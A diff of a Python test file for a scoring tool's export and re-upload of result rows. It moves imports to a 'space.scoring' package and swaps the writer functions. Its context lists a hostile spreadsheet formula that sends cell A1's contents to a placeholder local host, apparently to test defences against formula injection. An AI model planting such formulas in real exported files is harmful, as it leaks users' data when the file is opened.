@@ -5,8 +5,9 @@ import json
 
 import pytest
 from evaluate_qa.files.rows import read_rows
-from space import batch, download
-from space.files import Table, collect, read
+from space.scoring import batch
+from space.scoring.files import Table, collect, read
+from space.scoring.records import records_of, write
 
 HOSTILE = [
     '=HYPERLINK("http://127.0.0.1:9/?"&A1, "see")',
@@ -43,7 +44,7 @@ def files(rows, smile, scorer_of):
     table = collect(Table("rows", ""), enumerate(rows, 1), smile.file_fields)
     *_, scored = batch.score(smile, scorer_of("smile"), table, smile.options())
     assert len(scored.kept) == len(rows)
-    return download.write(batch.records(scored))
+    return write(records_of(scored))
 
 
 def test_a_download_can_be_uploaded_again(files, rows, smile):
@@ -81,4 +82,4 @@ def test_what_utf_8_cannot_hold_is_replaced_where_it_enters(smile, scorer_of):
     table = collect(Table("rows", ""), enumerate([record], 1), smile.file_fields)
     assert table.rows == [{"predictions": "a \ufffd b", "references": ["😀"]}]
     *_, scored = batch.score(smile, scorer_of("smile"), table, smile.options())
-    assert "a \ufffd b" in download.write(batch.records(scored))[0].read_text(encoding="utf-8")
+    assert "a \ufffd b" in write(records_of(scored))[0].read_text(encoding="utf-8")
